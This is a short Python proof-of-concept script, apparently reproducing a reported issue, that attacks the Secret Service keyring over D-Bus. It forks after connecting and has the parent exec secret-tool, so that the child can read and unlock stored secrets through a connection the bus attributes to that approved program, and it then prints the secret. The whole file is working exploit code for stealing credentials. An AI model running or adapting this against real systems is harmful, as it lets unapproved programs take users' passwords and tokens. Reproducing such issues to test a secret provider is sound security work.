#!/usr/bin/python3
"""The attack of issue 45 on the Secret Service: connect to the bus, fork, and let the
parent exec an approved program (secret-tool, left blocked reading a pipe the child holds)
while the child reads the item through the connection the bus still names the parent for.

    forked.py early|late|kept NAME=VALUE…

`early`: the parent makes a first call before it forks (the provider sees it as python);
`late`: the first call comes from the child, after the exec; `kept`: as late, with the
connection's socket left open across the exec, so the parent running secret-tool still holds
it beside the child. Prints `released:VALUE` when the
child got the secret, `locked` when it stayed locked; then ends the parent."""
import os
import signal
import sys
import time

import secretstorage

mode = sys.argv[1]
attributes = dict(argument.split("=", 1) for argument in sys.argv[2:])
connection = secretstorage.dbus_init()
if mode == "early":
    list(secretstorage.search_items(connection, attributes))
if mode == "kept":
    for descriptor in os.listdir("/proc/self/fd"):
        try:
            os.set_inheritable(int(descriptor), True)
        except OSError:
            pass
reading, writing = os.pipe()
child = os.fork()
if child != 0:
    # The parent: becomes secret-tool, blocked on a pipe the child keeps open.
    os.close(writing)
    os.dup2(reading, 0)
    os.execv("/usr/bin/secret-tool", ["secret-tool", "store", "--label=decoy", "decoy", "1"])
os.close(reading)
parent = os.getppid()
# Wait until the parent runs secret-tool.
for _ in range(200):
    if os.readlink("/proc/%d/exe" % parent) == "/usr/bin/secret-tool":
        break
    time.sleep(0.01)
time.sleep(0.2)
try:
    items = list(secretstorage.search_items(connection, attributes))
    item = items[0]
    if item.is_locked():
        item.unlock()
    if item.is_locked():
        print("locked")
    else:
        print("released:" + item.get_secret().decode())
except Exception as error:  # a refusal, reported as the provider worded it
    print("locked", error)
finally:
    sys.stdout.flush()
    os.kill(parent, signal.SIGKILL)
